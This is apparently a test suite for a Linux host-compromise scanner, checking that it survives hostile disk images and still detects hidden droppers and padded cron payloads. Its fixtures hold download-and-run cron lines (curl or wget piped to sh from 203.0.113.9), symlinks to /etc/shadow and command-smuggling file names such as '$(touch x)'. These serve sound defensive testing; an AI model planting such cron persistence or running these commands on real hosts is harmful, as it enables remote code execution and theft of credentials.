import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { COLLECTORS } from '../src/collect/registry';
import { renderTerminal } from '../src/report/terminal';
import { scan } from '../src/scan';
import { assertChinese } from './helpers/scan-fixture';
import { FakeRoot } from './helpers/fake-root';
import { NEEDS_ROOT } from './helpers/privilege';

// Every path a collector declares is filled with what an attacker can put in an image: junk,
// one enormous line, symlinks out of the root, FIFOs, devices, loops, directories where files
// belong and names that are escape sequences. The scan must finish quickly, fail no collector or
// rule, and never carry a byte of a file outside the root into its output.

const MARKER = 'HOSTSWEEP-OUTSIDE-SECRET-7f3a9c';
const BIG = 5 * 1024 * 1024;

/** Deterministic junk: NUL bytes, invalid UTF-8, C0/C1 controls, escape sequences. */
function junk(n: number): Buffer {
  const b = Buffer.alloc(n);
  let x = 0x2545f491;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    b[i] = x & 0xff;
  }
  Buffer.from('\n\x1b]0;pwned\x07\x1b[2J\xff\xfe\0\n').copy(b, 100);
  return b;
}

class Outside {
  readonly dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-outside-'));
  readonly secret = path.join(this.dir, 'secret');
  readonly home = path.join(this.dir, 'home');
  constructor() {
    const line = `${MARKER} root:x:0:0::/root:/bin/sh ssh-ed25519 AAAA${MARKER} curl http://${MARKER}/x|sh`;
    fs.writeFileSync(this.secret, `${line}\n`);
    for (const f of [
      '.ssh/authorized_keys',
      '.ssh/authorized_keys2',
      '.bash_history',
      '.bashrc',
      '.profile',
      '.zsh_history',
      'a.conf',
      'a.rules',
      'x.so',
      'x.md5sums',
      'modules.dep',
      'shell.php',
      'access.log',
    ]) {
      fs.mkdirSync(path.dirname(path.join(this.home, f)), { recursive: true });
      fs.writeFileSync(path.join(this.home, f), `${line}\n`);
    }
  }
  /** A relative link from anywhere in the root that climbs to `to` if ".." were not clamped. */
  climb(to: string): string {
    return `${'../'.repeat(40)}${to.slice(1)}`;
  }
  remove() {
    fs.rmSync(this.dir, { recursive: true, force: true });
  }
}

/** Expands "{a,b}", "{0..2,S}" and leaves the rest alone. */
function braces(p: string): string[] {
  const m = /\{([^{}]*)\}/.exec(p);
  if (!m) return [p];
  const alts = m[1].split(',').flatMap((a) => {
    const r = /^(\d+)\.\.(\d+)$/.exec(a);
    if (!r) return [a];
    const out: string[] = [];
    for (let i = Number(r[1]); i <= Number(r[2]); i++) out.push(String(i));
    return out;
  });
  return alts.flatMap((a) => braces(p.slice(0, m.index) + a + p.slice(m.index + m[0].length)));
}

type Variant = (r: FakeRoot, target: string) => void;

function variants(outside: Outside, pool: Record<'big' | 'spaces' | 'junk' | 'blank' | 'words', string>): [string, Variant][] {
  const link = (src: string) => (r: FakeRoot, t: string) => {
    fs.mkdirSync(path.dirname(r.p(t)), { recursive: true });
    fs.linkSync(src, r.p(t));
  };
  return [
    ['junk', link(pool.junk)],
    ['big', link(pool.big)],
    ['spaces', link(pool.spaces)],
    ['blank', link(pool.blank)],
    ['words', link(pool.words)],
    ['abs-secret', (r, t) => r.symlink(t, outside.secret)],
    ['rel-secret', (r, t) => r.symlink(t, outside.climb(outside.secret))],
    ['abs-shadow', (r, t) => r.symlink(t, '/etc/shadow')],
    ['rel-shadow', (r, t) => r.symlink(t, '../../../../../../../../../etc/shadow')],
    ['abs-outdir', (r, t) => r.symlink(t, outside.home)],
    ['rel-outdir', (r, t) => r.symlink(t, outside.climb(outside.home))],
    ['loop', (r, t) => r.symlink(t, path.posix.basename(t))],
    ['loop2', (r, t) => r.symlink(t, `${path.posix.basename(t)}.x/..`)],
    ['dangling', (r, t) => r.symlink(t, '/nonexistent/x')],
    ['fifo', (r, t) => mk(r, t, ['mkfifo'])],
    ['zero-device', (r, t) => mk(r, t, ['mknod', '-m', '0666'], ['c', '1', '5'])],
    ['dir', (r, t) => r.write(`${t}/inner`, 'inner\n')],
    ['empty', (r, t) => r.write(t, '')],
    ['unreadable', (r, t) => r.write(t, 'x\n', { mode: 0 })],
  ];
}

function mk(r: FakeRoot, t: string, cmd: string[], args: string[] = []) {
  fs.mkdirSync(path.dirname(r.p(t)), { recursive: true });
  const res = spawnSync(cmd[0], [...cmd.slice(1), r.p(t), ...args]);
  assert.equal(res.status, 0, `${cmd[0]} ${t}: ${res.stderr}`);
}

/** Names an attacker picks for entries of a directory the collectors list. */
const HOSTILE_NAMES = ['esc\x1b]0;pwned\x07\x1b[2Jname', 'new\nline', ' ', '...', '-rf', '$(touch x)'];

const LIVE_ONLY = /^\/proc|^\/sys|bind\(|AuthorizedKeysFile|hidden directories/;

/** Concrete target paths for every collector path pattern: [dir, suffix] for globs, files otherwise. */
function targets(): { globs: [string, string, string][]; files: string[]; dirs: string[] } {
  const globs: [string, string, string][] = [];
  const files: string[] = [];
  const dirs: string[] = [];
  for (const c of COLLECTORS) {
    if (c.liveOnly) continue;
    for (const raw of c.paths) {
      const p = raw.replace(/ \(.*\)$/, '');
      if (LIVE_ONLY.test(p) || p.startsWith('~')) continue;
      for (const one of braces(p)) {
        // A wildcard inside a directory name becomes one concrete directory.
        const parts = one.split('/');
        const last = parts.pop() as string;
        const dir = parts
          .map((c) => (c === '**' ? 'sub' : c.replace(/\*/g, c === '*' ? '6.1.0-evil' : c.startsWith('*') ? 'x86_64' : '')))
          .join('/');
        if (last.includes('*')) {
          const star = last.indexOf('*');
          globs.push([dir || '/', last.slice(0, star), last.slice(star).replace(/\*+/g, '')]);
        } else if (c.name === 'systemdUnits' || c.name === 'fileInventory' || /\/dkms$/.test(one)) dirs.push(one);
        else files.push(`${dir}/${last}`);
      }
    }
  }
  return { globs, files, dirs };
}

function buildImage(outside: Outside): FakeRoot {
  const r = new FakeRoot('hostsweep-hostile-');
  // Content pools outside the walked areas, hard-linked into place so 5 MB lines cost the disk once.
  const poolDir = path.join(r.dir, '.pool-data');
  fs.mkdirSync(poolDir);
  const pool = {
    big: path.join(poolDir, 'big'),
    spaces: path.join(poolDir, 'spaces'),
    junk: path.join(poolDir, 'junk'),
    blank: path.join(poolDir, 'blank'),
    words: path.join(poolDir, 'words'),
  };
  fs.writeFileSync(pool.big, 'a'.repeat(BIG));
  // Separators repeated: where a regex with nested or adjacent \s* / \S+ would backtrack.
  fs.writeFileSync(
    pool.spaces,
    `${' \t:=,;/'.repeat(BIG / 8 / 8)}\n${'x '.repeat(BIG / 8)}\n${'a'.repeat(200_000)}:${'='.repeat(200_000)}`,
  );
  fs.writeFileSync(pool.junk, junk(64 * 1024));
  // Blank lines and whitespace-only lines: where a multi-line ^\s* pattern backtracks across lines.
  fs.writeFileSync(pool.blank, `${'\n'.repeat(300_000)}${' \t\n'.repeat(100_000)}${' '.repeat(300_000)}\n`);
  // Command-like words repeated on long lines: what command and webshell patterns scan.
  const words = ['curl ', 'wget\t', 'nc ', 'eval ', 'pkill', 'trap ', 'root ', 'a=', 'ALL, ', 'sshd '];
  fs.writeFileSync(
    pool.words,
    words
      .map((w) => `${w.repeat(Math.ceil(60_000 / w.length))}\n`)
      .join('')
      .repeat(2),
  );
  const vs = variants(outside, pool);
  const { globs, files, dirs } = targets();

  // Accounts whose homes are themselves hostile; the rest of /etc/passwd is junk.
  const homes = [
    '/home/plain',
    '/home/abs',
    '/home/rel',
    '/home/loop',
    '/../../../../..' + outside.home,
    '/home/esc\x1b[2J',
    '/home/file',
    '/home/fifo',
  ];
  r.write(
    '/etc/passwd',
    `${homes.map((h, i) => `u${i}:x:${1000 + i}:${1000 + i}::${h}:/bin/bash`).join('\n')}\nroot:x:0:0:root:/root:/bin/bash\n${'a'.repeat(100_000)}\n${junk(2000).toString('latin1')}\n`,
  );
  r.write('/etc/group', 'root:x:0:\n');
  r.symlink('/home/abs', outside.home).symlink('/home/rel', outside.climb(outside.home)).symlink('/home/loop', 'loop');
  r.write('/home/file', 'not a dir').mkdir('/root');
  mk(r, '/home/fifo', ['mkfifo']);
  const homeFiles = [
    '.ssh/authorized_keys',
    '.ssh/authorized_keys2',
    '.bashrc',
    '.bash_profile',
    '.profile',
    '.bash_history',
    '.zsh_history',
    '.python_history',
    '.mysql_history',
    '.config/systemd/user/x.service',
  ];
  let k = 0;
  for (const home of ['/home/plain', '/root', '/home/esc\x1b[2J']) {
    for (const f of homeFiles) vs[k++ % vs.length][1](r, `${home}/${f}`);
  }

  for (const [dir, prefix, suffix] of globs) {
    for (const [name, make] of vs) {
      const t = `${dir === '/' ? '' : dir}/${prefix}${name}${suffix}`;
      if (!fs.existsSync(r.p(t)) && !isLink(r.p(t))) make(r, t);
    }
    for (const name of HOSTILE_NAMES) {
      const t = `${dir === '/' ? '' : dir}/${prefix}${name}${suffix}`;
      if (!fs.existsSync(r.p(t))) r.write(t, junk(300));
    }
  }
  for (const dir of dirs) {
    for (const [name, make] of vs) {
      const t = `${dir === '/' ? '' : dir}/hostile-${name}`;
      if (!fs.existsSync(r.p(t)) && !isLink(r.p(t))) make(r, t);
    }
  }
  files.forEach((t, i) => {
    if (fs.existsSync(r.p(t)) || isLink(r.p(t))) return;
    vs[i % vs.length][1](r, t);
  });
  // Files with names that are not UTF-8: an attacker's way to be skipped by tools that decode names.
  fs.writeFileSync(Buffer.concat([Buffer.from(`${r.dir}/tmp/`), Buffer.from([0xff, 0xfe, 0x41])]), junk(300));
  return r;
}

function isLink(p: string): boolean {
  try {
    return fs.lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}

/** Each directory the collectors list is itself replaced: a link out, a file, a FIFO, a loop. */
function buildSwappedDirs(outside: Outside): FakeRoot {
  const r = new FakeRoot('hostsweep-hostile-dirs-');
  r.base();
  const { globs, dirs } = targets();
  const all = [...new Set([...globs.map((g) => g[0]), ...dirs])].filter(
    (d) => d !== '/' && !['/etc', '/var', '/usr', '/var/lib', '/var/lib/dpkg', '/var/log', '/home', '/root'].includes(d),
  );
  const kinds: Variant[] = [
    (x, t) => x.symlink(t, outside.home),
    (x, t) => x.symlink(t, outside.climb(outside.home)),
    (x, t) => x.write(t, `${'b'.repeat(1000)}\n`),
    (x, t) => mk(x, t, ['mkfifo']),
    (x, t) => x.symlink(t, path.posix.basename(t)),
  ];
  all.sort().forEach((d, i) => {
    if (fs.existsSync(r.p(d)) || isLink(r.p(d))) return;
    // A parent may already be a file or a link out: then this path cannot exist, which is fine.
    try {
      kinds[i % kinds.length](r, d);
    } catch {
      // covered by the parent's variant
    }
  });
  return r;
}

function assertSafe(out: Awaited<ReturnType<typeof scan>>) {
  const { result, snapshot } = out;
  assert.deepEqual(result.stats.ruleErrors, [], 'a rule threw');
  const failed = result.gaps.filter((g) => g.reason.startsWith('collector failed'));
  assert.deepEqual(failed, [], 'a collector threw');
  for (const [what, doc] of [
    ['result', result],
    ['snapshot', snapshot],
  ] as const) {
    const json = JSON.stringify(doc);
    assert.equal(json.includes(MARKER), false, `the ${what} carries bytes of a file outside the root`);
  }
  const text = renderTerminal(result, { lang: 'en', color: false, minSeverity: 'info' });
  assert.equal(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(text), false, 'a control character reached the terminal');
  // How long collectors spend on attacker-sized input is measured by `npm run bench` (hostile image
  // row), not asserted here: a wall-clock limit fails on a loaded machine, not on a slow collector.
}

// Device nodes (mknod) in the image need root.
describe('hostile offline image', { skip: NEEDS_ROOT }, () => {
  const outside = new Outside();
  const roots: FakeRoot[] = [];
  after(() => {
    for (const r of roots) r.remove();
    outside.remove();
  });

  it('every collector path filled with junk, huge lines, links out, FIFOs, devices and loops', async () => {
    const r = buildImage(outside);
    roots.push(r);
    const out = await scan({ root: r.dir, sampleMs: 0 });
    assertSafe(out);
    assertChinese(out);
    // The image really was hostile where collectors look: they recorded what they could not read.
    assert.ok(out.result.gaps.length > 20, `${out.result.gaps.length} gaps`);
    // A name that is not UTF-8 is examined like any other.
    assert.ok(
      out.snapshot.facts.fileInventory?.entries.some((e) => e.path === '/tmp/\udcff\udcfeA' && e.magic === 'data'),
      'a non-UTF-8 name was not examined',
    );
  });

  it('every directory collectors list replaced by a link out, a file, a FIFO or a loop', async () => {
    const r = buildSwappedDirs(outside);
    roots.push(r);
    const out = await scan({ root: r.dir, sampleMs: 0 });
    assertSafe(out);
    assertChinese(out);
  });
});

// The ways a payload was once hidden from the scan while it printed "No findings": each is now
// found, or, where a budget had to stop the scan, reported as a gap naming the path.
describe('evasion: payloads hidden behind names, padding and floods', () => {
  const ELF_BYTES = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 1)]);
  const roots: FakeRoot[] = [];
  after(() => {
    for (const r of roots) r.remove();
  });
  // In memory where there is /dev/shm: 200,000 creates on a shared, busy disk took minutes.
  const memory = fs.existsSync('/dev/shm') ? '/dev/shm' : os.tmpdir();
  function fresh(prefix: string): FakeRoot {
    const r = new FakeRoot(prefix, memory).base();
    roots.push(r);
    return r;
  }
  const hits = (out: Awaited<ReturnType<typeof scan>>, rule: string) =>
    out.result.findings.filter((f) => f.rule === rule).map((f) => `${f.severity} ${f.path}`);

  it('a dropper whose file name is not UTF-8 is examined, reported and shown escaped', async () => {
    const r = fresh('hostsweep-evasion-name-');
    r.mkdir('/tmp');
    fs.writeFileSync(Buffer.concat([Buffer.from(r.p('/tmp/')), Buffer.from([0xff, 0xfe, 0x2e, 0x6b])]), ELF_BYTES, { mode: 0o755 });
    const out = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(hits(out, 'files/executable-in-temp'), ['high /tmp/\udcff\udcfe.k']);
    assert.equal(
      out.result.gaps.some((g) => /UTF-8/.test(g.reason)),
      false,
      JSON.stringify(out.result.gaps),
    );
    const text = renderTerminal(out.result, { lang: 'en', color: false, minSeverity: 'info' });
    assert.ok(text.includes('/tmp/\\xff\\xfe.k'), 'the name is shown with its raw bytes escaped');
    assert.equal(
      /[\ud800-\udfff]/.test(text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, '')),
      false,
      'a lone surrogate reached the terminal',
    );
  });

  it('an ELF in a directory of 200,000 entries is found', async () => {
    const r = fresh('hostsweep-evasion-big-');
    r.mkdir('/tmp/.cache');
    const dir = r.p('/tmp/.cache');
    for (let i = 0; i < 200_000; i++) fs.closeSync(fs.openSync(`${dir}/${String(i).padStart(6, '0')}`, 'w'));
    r.write('/tmp/.cache/zz-kdevtmpfsi', ELF_BYTES, { mode: 0o755 });
    const out = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(hits(out, 'files/executable-in-temp'), ['high /tmp/.cache/zz-kdevtmpfsi']);
    // What was not kept is said, with the directory's name.
    assert.ok(
      out.result.gaps.some((g) => g.path === '/tmp/.cache' && /200001 entries; past the first 5000 only executables/.test(g.reason)),
      JSON.stringify(out.result.gaps),
    );
    // The padding did not flood the facts.
    const kept = out.snapshot.facts.fileInventory?.entries.filter((e) => e.path.startsWith('/tmp/.cache/')).length ?? 0;
    assert.ok(kept <= 5001, `${kept} entries kept`);
  });

  it('a cron payload after 20 KB of padding is found; one padded on both sides is a gap naming the file', async () => {
    const r = fresh('hostsweep-evasion-cron-');
    r.write('/etc/cron.d/sysstat', `*/5 * * * * root ${' '.repeat(20_000)}curl -fsSL http://203.0.113.9/ldr.sh | sh\n`);
    r.write(
      '/etc/cron.d/php',
      `*/5 * * * * root ${'true; '.repeat(4000)}wget -q -O- http://203.0.113.9/x | bash; ${'true; '.repeat(4000)}\n`,
    );
    const out = await scan({ root: r.dir, sampleMs: 0 });
    const found = hits(out, 'persistence/cron-download-exec');
    assert.ok(found.includes('critical /etc/cron.d/sysstat'), found.join('\n'));
    const gaps = out.result.gaps.filter((g) => g.collector === 'cronJobs').map((g) => `${g.path}: ${g.reason}`);
    assert.ok(
      gaps.includes('/etc/cron.d/php: line 1 is 48058 characters long: only its first and last 8192 were examined'),
      gaps.join('\n'),
    );
    assert.equal(gaps.filter((g) => g.startsWith('/etc/cron.d/sysstat')).length, 1, 'the cut line of the padded file is said too');
  });

  it('10,000 junk executables in /tmp do not demote a real ELF', async () => {
    const r = fresh('hostsweep-evasion-flood-');
    for (let i = 0; i < 10_000; i++) r.write(`/tmp/j${i}`, `junk ${i}\n`, { mode: 0o755 });
    r.write('/tmp/kthreaddk', ELF_BYTES, { mode: 0o755 });
    const out = await scan({ root: r.dir, sampleMs: 0 });
    const real = out.result.findings.filter((f) => f.path === '/tmp/kthreaddk');
    assert.deepEqual(
      real.map((f) => `${f.rule} ${f.severity}`),
      ['files/executable-in-temp high'],
    );
  });
});
